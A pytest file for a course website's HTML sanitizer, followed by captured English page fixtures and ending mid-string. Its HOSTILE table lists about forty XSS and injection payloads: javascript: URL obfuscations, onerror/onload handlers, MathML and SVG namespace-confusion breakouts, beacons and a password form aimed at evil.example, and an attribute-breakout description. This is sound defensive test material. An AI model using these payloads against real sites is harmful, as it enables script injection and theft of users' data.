"""sitebuild.sanitize: a translated page's HTML keeps everything the site's own build
writes into a page, and loses whatever else a stranger's Markdown could put there."""

from __future__ import annotations

import re
from itertools import zip_longest
from typing import NamedTuple

import pytest
import yaml
from bs4 import BeautifulSoup, Comment, NavigableString, Tag
from support import LANGUAGES, ROOT

from sitebuild.sanitize import OFF_SITE_REL, clean_html, plain_text

# ---------------------------------------------------------------- comparing as a DOM


class Node(NamedTuple):
    path: str  # e.g. article > p > span
    kind: str  # a tag's name, "text" or the kind of another node (a comment, ...)
    attrs: tuple = ()  # (name, value), sorted
    text: str = ""


def nodes(fragment: str) -> list[Node]:
    """The fragment's tree in document order, as an HTML parser reads it: tags with
    their attributes (class as written, valueless ones as ""), and texts."""

    def walk(parent, path):
        for child in parent.children:
            if isinstance(child, Tag):
                attrs = {
                    name: " ".join(value) if isinstance(value, list) else (value or "")
                    for name, value in child.attrs.items()
                }
                yield Node(path, child.name, tuple(sorted(attrs.items())))
                yield from walk(child, f"{path} > {child.name}")
            elif type(child) is NavigableString:
                yield Node(path, "text", text=str(child))
            else:  # a comment, a doctype, ...
                yield Node(path, type(child).__name__, text=str(child))

    return list(walk(BeautifulSoup(fragment, "html.parser"), "article"))


def difference(before: str, after: str) -> str | None:
    """Where after's DOM first differs from before's, in words; None when it does not."""
    for old, new in zip_longest(nodes(before), nodes(after)):
        if old == new:
            continue
        if old is None or new is None or old.kind != new.kind or old.path != new.path:
            return f"at {(old or new).path}: {old} became {new}"
        lost = dict(old.attrs).items() - dict(new.attrs).items()
        if lost:
            return f"at {old.path} > {old.kind}: attributes {sorted(lost)} lost or changed"
        return f"at {old.path}: {old} became {new}"
    return None


# ---------------------------------------------------------------- English is unchanged

# Pieces of the English site's page content (the inner HTML of its <article>), copied
# from a build (COURSE_LANGUAGE=en mkdocs build), at the end of this file: chosen so
# that together they hold every tag, attribute and class the build writes, except the
# colours of code (every Pygments class is allowed). MATERIAL_FEATURES is the site's
# Markdown (mkdocs.yml's extensions) for what no English page uses yet but a
# translation may: tabs, footnotes, abbreviations, aligned columns, a notice.
ENGLISH_PIECES = ["formulas", "notebook", "dashboard", "figures-and-outputs", "other-pages"]


@pytest.mark.parametrize("name", [*ENGLISH_PIECES, "material-features"])
def test_cleaning_english_content_changes_nothing(name):
    before = ENGLISH[name]
    assert difference(before, clean_html(before)) is None, (
        f"{name}: the allow-list in sitebuild/sanitize.py misses what the build writes, "
        + difference(before, clean_html(before))
    )


def test_the_comparison_names_what_the_allow_list_drops():
    fragment = '<p>A <span class="computed" data-name="n" data-format=".1f">1.0</span></p>'
    assert difference(fragment, '<p>A <span class="computed">1.0</span></p>') == (
        "at article > p > span: attributes [('data-format', '.1f'), ('data-name', 'n')] "
        "lost or changed"
    )
    assert difference(fragment, fragment) is None


@pytest.mark.slow
def test_cleaning_every_built_english_page_changes_nothing(built_site):
    translations = set(LANGUAGES[1:])
    checked, changed = 0, []
    for page in sorted(built_site.rglob("*.html")):
        if page.relative_to(built_site).parts[0] in translations:
            continue
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        article = soup.find("article", class_="md-content__inner")
        if article is None:
            continue
        content = article.decode_contents()
        checked += 1
        if where := difference(content, clean_html(content)):
            changed.append(f"{page.relative_to(built_site)} {where}")
    assert checked >= 10, f"only {checked} English pages found in {built_site}"
    assert not changed, "cleaning changes English pages:\n" + "\n".join(changed)


# ---------------------------------------------------------------- hostile HTML

HOSTILE = {
    "script": "<p>Hi</p><script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "javascript-url-entity": '<a href="jav&#x61;script:alert(1)">x</a>',
    "javascript-url-spaces-case": '<a href="  JaVaScRiPt:alert(1)">x</a>',
    "javascript-url-tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript-markdown-link": '<p><a href="javascript:alert(1)">x</a></p>',  # [x](javascript:…)
    "data-url-link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "img-other-host": '<img src="https://evil.example/p.png" alt="p">',
    "img-protocol-relative": '<img src="//evil.example/p.png">',
    "img-backslash-host": '<img src="/\\evil.example/p.png">',
    "img-spaces-host": '<img src=" \t//evil.example/p.png">',
    "img-srcset": '<img srcset="https://evil.example/a.png 1x">',
    "img-data-url": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "style-attribute": '<p style="background:url(https://evil.example/)">x</p>',
    "table-cell-style": (
        '<table><tr><td style="background:url(https://evil.example/)">x</td></tr></table>'
    ),
    "attr-list-onclick": '<p onclick="alert(1)">x</p>',  # x{ onclick="alert(1)" }
    "div-onclick": '<div onclick="alert(1)">x</div>',
    "details-ontoggle": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "stylesheet-link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "style-import": "<style>@import url(https://evil.example/x.css);</style>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": (
        '<form action="https://evil.example/"><input name="password">'
        '<button formaction="https://evil.example/">Send</button></form>'
    ),
    "text-input": '<input type="text" name="q" autofocus onfocus="alert(1)">',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-link": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "mathml-xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    # what latex2mathml makes of \href, \style and \class in a formula
    "mathml-href": '<math><mrow href="javascript:alert(1)"><mi>x</mi></mrow></math>',
    "mathml-style": '<math><mrow style="background:url(https://evil.example/)"><mi>x</mi></mrow></math>',
    "mathml-namespace-confusion": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mathml-annotation-xml": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)>'
        "</style></annotation-xml></math>"
    ),
    "svg-animation": '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "material-controls": '<label for="__drawer">Menu</label><h2 id="__search">x</h2>',
    "material-component": '<div class="md-dialog" data-md-component="dialog">x</div>',
    "tabindex": '<div tabindex="1">x</div>',
}
REMOVED_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "form", "button",
    "select", "textarea", "base", "meta", "link", "svg", "template", "noscript",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "xlink:href", "poster"}
SCHEME_RE = re.compile(r"^([a-z][a-z0-9+.-]*):")


def scheme(url: str) -> str:
    """A URL's scheme as a browser reads it ("" for a relative URL)."""
    url = re.sub(r"[\t\n\r]", "", url).strip("\x00- ").lower()
    m = SCHEME_RE.match(url)
    return m[1] if m else ""


def assert_harmless(cleaned: str) -> None:
    soup = BeautifulSoup(cleaned, "html.parser")
    assert not soup.find_all(string=lambda s: isinstance(s, Comment)), f"a comment kept: {cleaned}"
    for el in soup.find_all(True):
        assert el.name not in REMOVED_TAGS, f"<{el.name}> kept: {cleaned}"
        if el.name == "input":
            assert el.get("type") == "radio", f"an input that is not a radio button: {cleaned}"
        for name, value in el.attrs.items():
            value = " ".join(value) if isinstance(value, list) else (value or "")
            assert not name.startswith("on"), f"event attribute {name} kept: {cleaned}"
            assert "alert(" not in value, f"a payload kept in {name}: {cleaned}"
            assert name in {"href", "src"} or name not in URL_ATTRIBUTES, f"{name} kept"
            if name == "href":
                assert el.name == "a", f"href on <{el.name}>: {cleaned}"
                assert scheme(value) in {"", "http", "https", "mailto"}, f"href {value!r} kept"
            if name == "src":
                assert el.name == "img" and scheme(value) == "", f"src {value!r} kept"
                assert not value.strip().replace("\\", "/").startswith("//"), "image off the site"
            if name == "style":
                assert el.name in {"td", "th"} and re.fullmatch(
                    r"text-align: (left|center|right);", value
                ), f"style {value!r} kept on <{el.name}>"
            if name in {"id", "for", "name"}:
                assert not value.startswith("__"), f"{name}={value!r} of Material's kept"
            if name == "class":
                assert not any(c.startswith("md-") for c in value.split()), f"class {value!r}"
            assert not name.startswith("data-md"), f"{name} kept"
            assert name != "tabindex" or value == "0", f"tabindex={value!r} kept: page order only"


@pytest.mark.parametrize("fragment", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_is_neutralised(fragment):
    cleaned = clean_html(fragment)
    assert_harmless(cleaned)
    # what a browser reads back from the cleaned HTML is what was cleaned
    assert clean_html(cleaned) == cleaned


def test_links_to_other_hosts_work_and_get_a_rel():
    cleaned = clean_html(
        '<a href="https://example.org/x" rel="opener" target="_blank">elsewhere</a> '
        '<a href="mailto:team@example.org">mail</a> '
        '<a href="../frameworks/#tensors">here</a> <a href="#top">top</a>'
    )
    links = BeautifulSoup(cleaned, "html.parser").find_all("a")
    assert [(a["href"], a.get("rel"), a.get("target")) for a in links] == [
        ("https://example.org/x", OFF_SITE_REL.split(), None),
        ("mailto:team@example.org", OFF_SITE_REL.split(), None),
        ("../frameworks/#tensors", None, None),
        ("#top", None, None),
    ]


def test_images_from_the_site_are_kept():
    figure = (
        '<figure class="page-figure"><img alt="Loss per epoch" height="319" loading="lazy" '
        'src="../figures/lab-iris-curves.svg" width="598"></figure>'
    )
    assert difference(figure, clean_html(figure)) is None


def test_a_tabbed_blocks_radio_buttons_stay_radio_buttons():
    cleaned = clean_html('<input id="__tabbed_1_1" name="__tabbed_1" type="text" checked>')
    radio = BeautifulSoup(cleaned, "html.parser").input
    assert radio.attrs == {
        "id": "__tabbed_1_1",
        "name": "__tabbed_1",
        "checked": "",
        "type": "radio",
    }


# ---------------------------------------------------------------- metadata as text


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("<b>", "&lt;b&gt;"),
        ('say "hi"', "say &quot;hi&quot;"),
        ("Tom & Jerry", "Tom &amp; Jerry"),
        ("it's", "it&#x27;s"),
        ("Tom &amp; Jerry", "Tom &amp; Jerry"),  # escaped already: not escaped twice
    ],
)
def test_plain_text_escapes_markup(value, escaped):
    assert plain_text(value) == escaped


def test_a_description_cannot_leave_its_attribute():
    description = '"><script>alert(1)</script><meta name="x'
    page = f'<meta name="description" content="{plain_text(description)}">'  # as Material writes it
    metas = BeautifulSoup(page, "html.parser").find_all(True)
    assert [(m.name, m.attrs) for m in metas] == [
        ("meta", {"name": "description", "content": description})
    ]


def test_english_descriptions_mean_what_they_meant():
    for path in sorted((ROOT / "docs" / "en").glob("*.md")):
        text = path.read_text(encoding="utf-8")
        meta = yaml.safe_load(text.split("---")[1]) if text.startswith("---") else {}
        if description := (meta or {}).get("description"):
            content = f'<meta content="{plain_text(description)}">'
            parsed = BeautifulSoup(content, "html.parser").meta["content"]
            assert parsed == description, path.name


# ---------------------------------------------------------------- the English pieces

FORMULAS = r"""
<p><strong>Momentum</strong> gives the weights inertia. A velocity <math display="inline"><mrow><mi>v</mi></mrow></math> accumulates past gradients,
and the weights move with the velocity:</p>
<math display="block" tabindex="0"><mrow><mi>s</mi><mo>←</mo><mi>s</mi><mo>+</mo><msup><mi>g</mi><mn>2</mn></msup><mo>,</mo><mspace width="2em"></mspace><mi>w</mi><mo>←</mo><mi>w</mi><mo>−</mo><mfrac><mrow><mi>η</mi></mrow><mrow><msqrt><mrow><mi>s</mi></mrow></msqrt><mo>+</mo><mi>ϵ</mi></mrow></mfrac><mspace width="0.167em"></mspace><mi>g</mi><mo>.</mo></mrow></math>
<math display="block" tabindex="0"><mrow><mover accent="true"><mrow><mi>m</mi></mrow><mo>^</mo></mover><mo>=</mo><mfrac><mrow><mi>m</mi></mrow><mrow><mn>1</mn><mo>−</mo><msubsup><mi>β</mi><mn>1</mn><mi>t</mi></msubsup></mrow></mfrac><mo>,</mo><mspace width="2em"></mspace><mover accent="true"><mrow><mi>s</mi></mrow><mo>^</mo></mover><mo>=</mo><mfrac><mrow><mi>s</mi></mrow><mrow><mn>1</mn><mo>−</mo><msubsup><mi>β</mi><mn>2</mn><mi>t</mi></msubsup></mrow></mfrac><mo>,</mo><mspace width="2em"></mspace><mi>w</mi><mo>←</mo><mi>w</mi><mo>−</mo><mfrac><mrow><mi>η</mi><mspace width="0.167em"></mspace><mover accent="true"><mrow><mi>m</mi></mrow><mo>^</mo></mover></mrow><mrow><msqrt><mrow><mover accent="true"><mrow><mi>s</mi></mrow><mo>^</mo></mover></mrow></msqrt><mo>+</mo><mi>ϵ</mi></mrow></mfrac><mo>.</mo></mrow></math>
<div class="admonition warning">
<p class="admonition-title">Dividing by the gradient's norm is not Adagrad</p>
<p>The update <math display="inline"><mrow><mi>w</mi><mo>←</mo><mi>w</mi><mo>−</mo><mi>η</mi><mspace width="0.167em"></mspace><mi>g</mi><mo>/</mo><mo fence="false" stretchy="false">‖</mo><mi>g</mi><mo fence="false" stretchy="false">‖</mo></mrow></math> keeps only the <em>direction</em> of the
gradient. It is called <strong>normalised gradient descent</strong>, and it scales all weights
by the same number. Adagrad, RMSProp and Adam scale each weight separately, by its
own gradient history.</p>
</div>
<ol>
<li>PyTorch's <code>SGD</code> stores momentum differently, as <math display="inline"><mrow><mi>b</mi><mo>←</mo><mi>γ</mi><mi>b</mi><mo>+</mo><mi>g</mi></mrow></math> and
<math display="inline"><mrow><mi>w</mi><mo>←</mo><mi>w</mi><mo>−</mo><mi>η</mi><mi>b</mi></mrow></math>. Multiply <math display="inline"><mrow><mi>b</mi></mrow></math> by <math display="inline"><mrow><mo>−</mo><mi>η</mi></mrow></math> and you get our <math display="inline"><mrow><mi>v</mi></mrow></math>: with a
constant learning rate, the two follow exactly the same path.</li>
<li><math display="inline"><mrow><mi>m</mi></mrow></math> and <math display="inline"><mrow><mi>s</mi></mrow></math> start at zero, so in the first steps they are too small. Dividing by
<math display="inline"><mrow><mn>1</mn><mo>−</mo><msup><mi>β</mi><mi>t</mi></msup></mrow></math>, which is small at first and tends to 1, corrects for that.</li>
</ol>
<math display="block" tabindex="0"><mrow><mi>g</mi><mo>←</mo><mrow><mo fence="true" form="prefix" stretchy="true">{</mo><mtable><mtr><mtd columnalign="left"><mi>g</mi></mtd><mtd columnalign="left"><mtext>if </mtext><mo fence="false" stretchy="false">‖</mo><mi>g</mi><mo fence="false" stretchy="false">‖</mo><mo>≤</mo><mi>θ</mi><mo>,</mo></mtd></mtr><mtr><mtd columnalign="left"><mi>θ</mi><mspace width="0.167em"></mspace><mstyle displaystyle="true" scriptlevel="0"><mfrac><mrow><mi>g</mi></mrow><mrow><mo fence="false" stretchy="false">‖</mo><mi>g</mi><mo fence="false" stretchy="false">‖</mo></mrow></mfrac></mstyle></mtd><mtd columnalign="left"><mtext>if </mtext><mo fence="false" stretchy="false">‖</mo><mi>g</mi><mo fence="false" stretchy="false">‖</mo><mo>&gt;</mo><mi>θ</mi><mo>.</mo></mtd></mtr></mtable></mrow></mrow></math>
<math display="block" tabindex="0"><mrow><mi>L</mi><mo stretchy="false">(</mo><mi>w</mi><mo stretchy="false">)</mo><mo>=</mo><mo>−</mo><mfrac><mrow><mn>1</mn></mrow><mrow><mi>N</mi></mrow></mfrac><munderover><mo>∑</mo><mrow><mi>i</mi><mo>=</mo><mn>1</mn></mrow><mrow><mi>N</mi></mrow></munderover><mo maxsize="1.2em" minsize="1.2em">(</mo><msub><mi>y</mi><mi>i</mi></msub><mi>log</mi><msub><mi>p</mi><mi>i</mi></msub><mo>+</mo><mo stretchy="false">(</mo><mn>1</mn><mo>−</mo><msub><mi>y</mi><mi>i</mi></msub><mo stretchy="false">)</mo><mi>log</mi><mo stretchy="false">(</mo><mn>1</mn><mo>−</mo><msub><mi>p</mi><mi>i</mi></msub><mo stretchy="false">)</mo><mo maxsize="1.2em" minsize="1.2em">)</mo><mo>.</mo></mrow></math>
<div class="admonition example">
<p class="admonition-title">Try it yourself</p>
<p>Every block on this page runs as one program: copy them in order into a notebook
(install <code>trainlab</code> first), then change things and see what happens.</p>
<ol>
<li>Write the derivative of <math display="inline"><mrow><mi>tanh</mi><mo stretchy="false">(</mo><mi>w</mi><mi>x</mi><msup><mo stretchy="false">)</mo><mn>2</mn></msup></mrow></math> with respect to <math display="inline"><mrow><mi>w</mi></mrow></math> by hand, and check it
with autograd at a few values of <math display="inline"><mrow><mi>w</mi></mrow></math> and <math display="inline"><mrow><mi>x</mi></mrow></math>.</li>
<li>Time matrix products of several sizes, from 64 × 64 to 4096 × 4096. On a GPU,
from which size on is it faster than the CPU?</li>
<li>Add a second hidden layer to <code>make_model()</code> and train it with both the
hand-written loop and <code>fit</code>. Do the two still agree?</li>
<li>Give the hand-written loop a learning-rate schedule: halve <code>LR</code> every five epochs
by changing <code>optimizer.param_groups[0]["lr"]</code>.</li>
</ol>
</div>
<math display="block" tabindex="0"><mrow><mi>𝔼</mi><mrow><mo fence="true" form="prefix" stretchy="true">[</mo><msup><mrow><mo fence="true" form="prefix" stretchy="true">(</mo><mover accent="true"><mi>y</mi><mo>^</mo></mover><mo stretchy="false">(</mo><mi>x</mi><mo stretchy="false">)</mo><mo>−</mo><mi>y</mi><mo fence="true" form="postfix" stretchy="true">)</mo></mrow><mn>2</mn></msup><mo fence="true" form="postfix" stretchy="true">]</mo></mrow><mo>=</mo><munder><munder><mrow><msup><mrow><mo fence="true" form="prefix" stretchy="true">(</mo><mi>𝔼</mi><mrow><mo fence="true" form="prefix" stretchy="true">[</mo><mover accent="true"><mi>y</mi><mo>^</mo></mover><mo stretchy="false">(</mo><mi>x</mi><mo stretchy="false">)</mo><mo fence="true" form="postfix" stretchy="true">]</mo></mrow><mo>−</mo><mi>f</mi><mo stretchy="false">(</mo><mi>x</mi><mo stretchy="false">)</mo><mo fence="true" form="postfix" stretchy="true">)</mo></mrow><mn>2</mn></msup></mrow><mo>⏟</mo></munder><mrow><msup><mtext>bias</mtext><mn>2</mn></msup></mrow></munder><mo>+</mo><munder><munder><mrow><mo>Var</mo><mrow><mo fence="true" form="prefix" stretchy="true">[</mo><mover accent="true"><mi>y</mi><mo>^</mo></mover><mo stretchy="false">(</mo><mi>x</mi><mo stretchy="false">)</mo><mo fence="true" form="postfix" stretchy="true">]</mo></mrow></mrow><mo>⏟</mo></munder><mrow><mtext>variance</mtext></mrow></munder><mo>+</mo><munder><munder><mrow><msup><mi>σ</mi><mn>2</mn></msup></mrow><mo>⏟</mo></munder><mrow><mtext>noise</mtext></mrow></munder></mrow></math>
<div class="admonition note">
<p class="admonition-title">Why the curves move in steps of two</p>
<p><math display="inline"><mrow><mi>sin</mi><mo stretchy="false">(</mo><mi>π</mi><mi>x</mi><mo stretchy="false">)</mo></mrow></math> is an odd function and the 15 points are symmetric around zero, so on
average the even powers <math display="inline"><mrow><msup><mi>x</mi><mn>2</mn></msup><mo>,</mo><msup><mi>x</mi><mn>4</mn></msup><mo>,</mo><mo>…</mo></mrow></math> have nothing to add: going from degree 1 to
2, or from 3 to 4, leaves the bias where it was and only adds variance.</p>
</div>
<details class="question">
<summary>Why is the degree-6 polynomial's training error exactly zero?</summary>
<p>It has seven parameters and there are seven points with different <math display="inline"><mrow><mi>x</mi></mrow></math>: there is
always a polynomial of degree 6 through seven such points, and least squares finds
it.</p>
</details>
<math display="block" tabindex="0"><mrow><mrow><mi mathvariant="normal">V</mi><mi mathvariant="normal">a</mi><mi mathvariant="normal">r</mi></mrow><mo stretchy="false">(</mo><mi>z</mi><mo stretchy="false">)</mo><mo>=</mo><mi>n</mi><mo>·</mo><mrow><mi mathvariant="normal">V</mi><mi mathvariant="normal">a</mi><mi mathvariant="normal">r</mi></mrow><mo stretchy="false">(</mo><mi>w</mi><mo stretchy="false">)</mo><mo>·</mo><mrow><mi mathvariant="normal">V</mi><mi mathvariant="normal">a</mi><mi mathvariant="normal">r</mi></mrow><mo stretchy="false">(</mo><mi>x</mi><mo stretchy="false">)</mo><mo>.</mo></mrow></math>
<div class="admonition info">
<p class="admonition-title">Why the Xavier and He columns agree</p>
<p>Both use the same random draws here. He's weights are Xavier's times <math display="inline"><mrow><msqrt><mrow><mn>2</mn></mrow></msqrt></mrow></math>
(when <math display="inline"><mrow><msub><mi>n</mi><mrow><mtext>in</mtext></mrow></msub><mo>=</mo><msub><mi>n</mi><mrow><mtext>out</mtext></mrow></msub></mrow></math>), which doubles the mean square of <math display="inline"><mrow><mi>z</mi></mrow></math>; the ReLU
then zeroes about half of the values and halves it again.</p>
</div>
"""

NOTEBOOK = r"""
<div class="jupyter-wrapper">
<div class="jp-Notebook" data-jp-theme-light="true" data-jp-theme-name="JupyterLab Light">
<div class="jp-Cell jp-MarkdownCell jp-Notebook-cell" id="cell-01">
<div class="jp-Cell-inputWrapper">
<div class="jp-InputArea jp-Cell-inputArea"><div class="jp-RenderedHTMLCommon jp-RenderedMarkdown jp-MarkdownOutput" data-mime-type="text/markdown">
<h1 id="lab-workbook">Lab workbook: run the lab, then change it<a class="headerlink" href="#lab-workbook" title="Permanent link">¶</a></h1><details class="info"><summary>Run this page's code</summary><p>The code needs <code>torch</code>, <code>matplotlib</code> and <code>trainlab</code>. Download the notebook and run its cells in order, or open it in JupyterLab; each cell's output is shown under it.</p>
<p><code>trainlab</code> is this course's training module: from a clone of the repository, install it with <code>pip install -e .</code></p></details><p class="downloads"><a class="md-button" download="" href="lab-workbook.ipynb" title="Download this page as a Jupyter notebook, with its outputs">Notebook (.ipynb)</a> <a class="md-button" download="" href="lab-workbook.py" title="Download this page's code as a Python script, its text as comments">Python script (.py)</a></p><p>This notebook is the <a href="../lab/">lab</a> in a form you can run and change: first the lab's
own code, then a starting point for each of its <a href="../lab/#tasks">tasks</a>. The lab page
explains what the code does and what its results mean; this workbook is where you try
things. Open it in JupyterLab, Jupyter Notebook or VS Code and run the cells from the
top: every cell uses names that the cells before it defined.</p>
</div>
</div>
</div>
</div>
<div class="jp-Cell jp-MarkdownCell jp-Notebook-cell" id="cell-02">
<div class="jp-Cell-inputWrapper">
<div class="jp-InputArea jp-Cell-inputArea"><div class="jp-RenderedHTMLCommon jp-RenderedMarkdown jp-MarkdownOutput" data-mime-type="text/markdown">
<h2 id="the-labs-code">The lab's code<a class="headerlink" href="#the-labs-code" title="Permanent link">¶</a></h2><p>The settings, the data and the function that trains and tests every network. Change
<code>SEED</code> or a value in <code>TRAINING</code> here, run the notebook again from the top, and every
run below follows.</p>
</div>
</div>
</div>
</div><div class="jp-Cell jp-CodeCell jp-Notebook-cell jp-mod-noOutputs">
<div class="jp-Cell jp-CodeCell jp-Notebook-cell jp-mod-noOutputs" id="cell-03">
<div class="jp-Cell-inputWrapper">
<div class="jp-InputArea jp-Cell-inputArea">
<div class="jp-CodeMirrorEditor jp-Editor jp-InputArea-editor" data-type="inline">
<div class="CodeMirror cm-s-jupyter">
<div class="language-python highlight"><pre><span></span><code><span class="kn">import</span> <span class="nn">matplotlib.pyplot</span> <span class="k">as</span> <span class="nn">plt</span>
<span class="kn">import</span> <span class="nn">torch</span>
</code></pre></div>
</div>
</div>
</div>
</div>
</div>
</div>









<div class="jp-Cell jp-CodeCell jp-Notebook-cell">
<div class="jp-Cell jp-CodeCell jp-Notebook-cell" id="cell-25">
<div class="jp-Cell-inputWrapper">
<div class="jp-InputArea jp-Cell-inputArea">
<div class="jp-CodeMirrorEditor jp-Editor jp-InputArea-editor" data-type="inline">
<div class="CodeMirror cm-s-jupyter">
<div class="language-python highlight"><pre><span></span><code>patience_runs = {  <span class="c1"># None: no early stopping</span>
    <span class="mi">5</span>: train_digits(patience=<span class="mi">5</span>),
    </code></pre></div>
</div>
</div>
</div>
</div>
<div class="jp-Cell-outputWrapper">
<div class="jp-OutputArea jp-Cell-outputArea">
<div class="jp-OutputArea-child">
<div class="jp-RenderedHTMLCommon jp-RenderedHTML jp-OutputArea-output" data-mime-type="text/html" tabindex="0">
<figure class="page-figure"><img alt="Validation loss per epoch on the digits with a patience of 5, of 20 and without early stopping" height="319" loading="lazy" src="lab-workbook-5.svg" width="598"/></figure>
</div>
</div>
</div>
</div>
</div>
</div>

<div class="jp-Cell jp-MarkdownCell jp-Notebook-cell" id="cell-27">
<div class="jp-Cell-inputWrapper">
<div class="jp-InputArea jp-Cell-inputArea"><div class="jp-RenderedHTMLCommon jp-RenderedMarkdown jp-MarkdownOutput" data-mime-type="text/markdown">
<h3 id="task-rings">Task 7: help the single layer<a class="headerlink" href="#task-rings" title="Permanent link">¶</a></h3><p>Give the rings a third input, <math display="inline"><mrow><msubsup><mi>x</mi><mn>1</mn><mn>2</mn></msubsup><mo>+</mo><msubsup><mi>x</mi><mn>2</mn><mn>2</mn></msubsup></mrow></math>, the squared distance from the centre,
and train the single-layer network again.</p>
<ul>
<li>Can it separate the rings now? Why, when it still draws flat borders?</li>
<li>Which third input would help it on XOR, where the classes are the quadrants
<math display="inline"><mrow><msub><mi>x</mi><mn>1</mn></msub><msub><mi>x</mi><mn>2</mn></msub><mo>&gt;</mo><mn>0</mn></mrow></math> and <math display="inline"><mrow><msub><mi>x</mi><mn>1</mn></msub><msub><mi>x</mi><mn>2</mn></msub><mo>&lt;</mo><mn>0</mn></mrow></math>?</li>
</ul>
</div>
</div>
</div>
</div>

</div> </div>
<p class="last-run"><small>The code on this page was last run by the site build on 2026-12-06, with PyTorch 2.13.0 on cpu.</small></p>
"""

DASHBOARD = r"""
<h1 id="translation-status">Translation status<a class="headerlink" href="#translation-status" title="Permanent link">¶</a></h1>
<p>How each language's translation compares with the English pages, section by section.
The table is generated from the translation ledger (<code>i18n/translations/</code>) every time the
site is built. To help, read <a href="../translate/">How to translate</a>.</p>
<table class="translation-summary"><thead><tr><th>Language</th><th>up to date</th><th>stale</th><th>missing</th><th>%</th></tr></thead><tbody>
<tr><th>fr</th><td>113</td><td>0</td><td>0</td><td>100.0</td></tr>
<tr><th>ro</th><td>113</td><td>0</td><td>0</td><td>100.0</td></tr>
<tr><th>ru</th><td>113</td><td>0</td><td>0</td><td>100.0</td></tr>
<tr><th>sv</th><td>113</td><td>0</td><td>0</td><td>100.0</td></tr>
</tbody></table>
<h3 id="status-frameworks">frameworks.md</h3>
<table class="translation-grid"><thead><tr><th>#</th><th>fr</th><th>ro</th><th>ru</th><th>sv</th></tr></thead><tbody>
<tr><th scope="row"><a href="../frameworks/#neural-network-frameworks">Neural network frameworks</a></th><td class="state-up-to-date"><a href="../fr/frameworks/#neural-network-frameworks" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td><td class="state-up-to-date"><a href="../ro/frameworks/#neural-network-frameworks" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td><td class="state-up-to-date"><a href="../ru/frameworks/#neural-network-frameworks" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td><td class="state-up-to-date"><a href="../sv/frameworks/#neural-network-frameworks" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td></tr>
<tr><th scope="row"><a href="../frameworks/#what-a-framework-is-for">What a framework is for</a></th><td class="state-up-to-date"><a href="../fr/frameworks/#what-a-framework-is-for" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td><td class="state-up-to-date"><a href="../ro/frameworks/#what-a-framework-is-for" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td><td class="state-up-to-date"><a href="../ru/frameworks/#what-a-framework-is-for" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td><td class="state-up-to-date"><a href="../sv/frameworks/#what-a-framework-is-for" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td></tr>
<tr><th scope="row"><a href="../frameworks/#tensors">Tensors</a></th><td class="state-up-to-date"><a href="../fr/frameworks/#tensors" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td><td class="state-up-to-date"><a href="../ro/frameworks/#tensors" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td><td class="state-up-to-date"><a href="../ru/frameworks/#tensors" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td><td class="state-up-to-date"><a href="../sv/frameworks/#tensors" title="up to date">✓<span class="visually-hidden"> up to date</span></a></td></tr>























</tbody></table>
"""

FIGURES_AND_OUTPUTS = r"""
<h1 id="lab-classifying-iris-and-handwritten-digits">Lab: classifying Iris and handwritten digits<a class="headerlink" href="#lab-classifying-iris-and-handwritten-digits" title="Permanent link">¶</a></h1>
<details class="info">
<summary>Run this page's code</summary>
<p>The code needs <code>torch</code>, <code>matplotlib</code> and <code>trainlab</code>. Paste the blocks in order into one Python session or notebook: together they are one program, and each block's output is shown under it.</p>
<p><code>trainlab</code> is this course's training module: from a clone of the repository, install it with <code>pip install -e .</code></p>
</details>
<p class="downloads"><a class="md-button" download="" href="lab.ipynb" title="Download this page as a Jupyter notebook, with its outputs">Notebook (.ipynb)</a> <a class="md-button" download="" href="lab.py" title="Download this page's code as a Python script, its text as comments">Python script (.py)</a></p>
<div class="admonition abstract">
<p class="admonition-title">What you will learn</p>
<ul>
<li>How to prepare a small classification problem: split it into training,
validation and test sets, and scale the inputs using the training set alone.</li>
<li>How to build a single-layer and a multi-layer network, and what their parameters
are.</li>
<li>How to train both with a high-level <code>fit</code> function, with early stopping, and how
to read their learning curves.</li>
<li>How to compare two models fairly: choose with the validation set, report on the
test set.</li>
<li>What a single-layer network can learn, and what it cannot.</li>
</ul>
</div>
<div class="language-python highlight"><pre><span></span><code>iris = scale_splits(split(load_iris(), seed=SEED))  <span class="c1"># 60/20/20, then inputs in [-1, 1]</span>
n_iris_train, n_iris_val, n_iris_test = <span class="nb">len</span>(iris.train.y), <span class="nb">len</span>(iris.val.y), <span class="nb">len</span>(iris.test.y)
n_iris_features = iris.train.x.shape[<span class="mi">1</span>]
</code></pre></div>
